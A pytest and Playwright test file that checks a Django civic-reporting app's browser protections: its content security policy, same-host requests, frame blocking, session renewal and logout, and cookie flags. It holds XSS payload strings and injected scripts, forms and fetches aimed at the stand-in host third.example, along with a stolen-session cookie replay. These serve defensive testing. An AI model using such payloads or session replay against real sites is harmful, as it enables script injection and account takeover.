"""What a real browser does with our policy, our cookies and our pages in foreign frames."""

import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from secrets import token_hex
from urllib.parse import urlsplit
from uuid import uuid4

import pytest
from playwright.sync_api import Browser, Page

PASSWORD = "gongzhi-demo"
HARM = (
    '<script>window.harmed=1</script><img src="x:" onerror="window.harmed=1">'
    '<svg onload="window.harmed=1"></svg><a href="javascript:window.harmed=1">这里</a>'
)
WATCH = """
window.violated = [];
document.addEventListener(
    "securitypolicyviolation", (event) => window.violated.push(event.violatedDirective));
"""
TRY_ALL = """async () => {
    const put = (name, set) => {
        const made = document.createElement(name);
        set(made);
        document.body.append(made);
    };
    put("script", (s) => { s.textContent = "window.harmed = 'inline script'"; });
    put("script", (s) => { s.src = "https://third.example/x.js"; });
    put("div", (d) => { d.innerHTML = "<img src='x:' onerror='window.harmed=1'>"; });
    put("style", (s) => { s.textContent = "body { outline: 9px solid red }"; });
    put("form", (f) => { f.action = "https://third.example/"; f.method = "post"; f.submit(); });
    put("object", (o) => { o.data = "/"; });
    await fetch("https://third.example/").catch(() => 0);
    try { eval("window.harmed = 'eval'"); } catch { /* as it should be */ }
    await new Promise((done) => setTimeout(done, 300));
}"""


def test_what_somebody_writes_into_a_case_never_runs_and_the_policy_would_stop_it(
    desk: Page, gongzhi, sign_in: Callable[[Page, str], None], complaints: list[str]
) -> None:
    """A report full of scripts is read at the desk as the words it is; then such things are put
    into the page by force, as a hole in our templates would, and the policy stops every one."""
    mark = token_hex(4)
    case = _reported(gongzhi, f"路灯不亮{mark} {HARM}")
    sign_in(desk, "diaodu01")
    desk.add_init_script(WATCH)
    desk.goto(f"/desk/cases/{case}/")
    assert "<script>window.harmed=1</script>" in desk.locator("main").inner_text()
    assert desk.evaluate("[window.harmed, window.violated]") == [None, []]
    desk.evaluate(TRY_ALL)
    assert desk.evaluate("window.harmed") is None
    broken = set(desk.evaluate("window.violated"))
    assert broken >= {
        "script-src-elem", "script-src-attr", "style-src-elem", "form-action", "object-src",
        "connect-src", "script-src",
    }, broken  # fmt: skip
    complaints.clear()  # the browser said so in red, as it should


def test_no_page_asks_anybody_but_us(
    phone: Page, desk: Page, sign_in: Callable[[Page, str], None]
) -> None:
    """Residents' pages, the desk, its map and the wall: every request goes to our own host."""
    asked: set[str] = set()
    for page in (phone, desk):
        page.on("request", lambda request: asked.add(urlsplit(request.url).hostname or "inline"))
    for path in ("/", "/report/", "/track/", "/privacy/", "/login/"):
        phone.goto(path)
    sign_in(desk, "diaodu01")
    for path in ("/desk/", "/desk/elders/", "/wall/"):
        desk.goto(path)
        desk.wait_for_timeout(500)
    assert asked <= {"127.0.0.1", "inline"}


def test_nobody_can_put_us_into_a_frame(chromium: Browser, gongzhi) -> None:
    """A foreign page with our sign-in page in a frame shows an empty frame."""
    context = chromium.new_context()
    page = context.new_page()
    page.set_content(f'<iframe src="{gongzhi.home}/login/" width="400" height="300"></iframe>')
    page.wait_for_timeout(1_000)
    framed = page.frames[1]
    assert not framed.url.startswith(gongzhi.home)
    assert framed.locator("input[name=password]").count() == 0
    context.close()


def test_a_session_begins_anew_at_sign_in_and_is_dead_after_signing_out(
    chromium: Browser, gongzhi, sign_in: Callable[[Page, str], None]
) -> None:
    """A session planted before sign-in is not taken over; a thief's opens nothing afterwards."""
    context = chromium.new_context(base_url=gongzhi.home, locale="zh-CN")
    planted = {"name": "sessionid", "value": "p" * 32, "url": gongzhi.home}
    context.add_cookies([planted])
    page = context.new_page()
    sign_in(page, "diaodu01")
    session = _cookies(context)["sessionid"]
    assert session["value"] != planted["value"]
    thief = chromium.new_context(base_url=gongzhi.home)
    thief.add_cookies([{"name": "sessionid", "value": session["value"], "url": gongzhi.home}])
    stolen = thief.new_page()
    stolen.goto("/desk/")
    assert "/login/" not in stolen.url  # a stolen session is one, until …
    assert context.request.post(
        "/logout/", form={"csrfmiddlewaretoken": _token(page)}, headers={"Referer": gongzhi.home}
    ).ok
    stolen.goto("/desk/")
    assert "/login/" in stolen.url
    thief.close()
    context.close()


def test_under_the_settings_of_production_cookies_are_secure(
    chromium: Browser, production: str
) -> None:
    """As a browser keeps them: for https, for us alone, and those that open doors for no script."""
    context = chromium.new_context(base_url=production, locale="zh-CN")
    page = context.new_page()
    page.goto("/report/")
    page.goto("/login/")
    page.get_by_label("账号").fill("diaodu01")
    page.get_by_label("密码").fill(PASSWORD)
    page.get_by_role("button", name="登录", exact=True).click()
    page.wait_for_url(lambda url: "/login/" not in url)
    kept = _cookies(context)
    assert {"sessionid", "csrftoken", "device", "known"} <= set(kept)
    for name, cookie in kept.items():
        assert cookie["secure"], name
        assert cookie["sameSite"] == "Lax", name
        assert cookie["domain"] == "127.0.0.1", name
    for name in ("sessionid", "device", "known"):
        assert kept[name]["httpOnly"], name
        assert name not in page.evaluate("document.cookie")
    context.close()


# ── hands ─────────────────────────────────────────────────────────────────────


def _reported(gongzhi, text: str) -> int:
    """The case of a report handed in by a program."""
    lng, lat = gongzhi.spot("349901001001-01")
    body = {"key": str(uuid4()), "text": text, "lng": lng, "lat": lat}
    request = urllib.request.Request(
        f"{gongzhi.home}/api/v1/reports",
        json.dumps(body).encode(),
        {"Content-Type": "application/json", "X-Device-Token": token_hex(20)},
    )
    with urllib.request.urlopen(request, timeout=20) as answer:
        assert answer.status == 201
    with sqlite3.connect(f"file:{gongzhi.data}/gongzhi.sqlite3?mode=ro", uri=True) as rows:
        found = rows.execute("SELECT id FROM cases_case WHERE text = ?", [text])
        return int(found.fetchone()[0])


def _cookies(context) -> dict[str, dict]:
    return {cookie["name"]: cookie for cookie in context.cookies()}


def _token(page: Page) -> str:
    return page.locator("input[name=csrfmiddlewaretoken]").first.get_attribute("value")


@pytest.fixture
def production(gongzhi) -> Iterator[str]:
    """The demo's data served with every setting of production, but the check of demo passwords."""
    root = Path(__file__).resolve().parents[2]
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GONGZHI_", "DJANGO_"))}
    env |= {
        "GONGZHI_DATA": str(gongzhi.data), "GONGZHI_LOG": "ERROR",
        "GONGZHI_SECRET_KEY": token_hex(20), "DJANGO_SETTINGS_MODULE": "gongzhi.project.settings",
    }  # fmt: skip
    code = (  # static files as in the demo: collecting and packing them proves nothing here
        "from django.conf import settings;"
        "settings.STORAGES['staticfiles']['BACKEND'] = 'gongzhi.project.static.QuickStorage';"
        "from granian.constants import Interfaces; from gongzhi.project.serving import server;"
        "server('gongzhi.project.wsgi:application', Interfaces.WSGI, address='127.0.0.1', "
        f"port={port}, workers=1, threads=4).serve()"
    )
    process = subprocess.Popen([sys.executable, "-c", code], env=env, cwd=root)
    home = f"http://127.0.0.1:{port}"
    try:
        for _try in range(600):
            try:
                urllib.request.urlopen(f"{home}/healthz", timeout=5).close()
                break
            except OSError:
                assert process.poll() is None
                time.sleep(0.1)
        yield home
    finally:
        process.send_signal(signal.SIGTERM)
        process.wait(30)
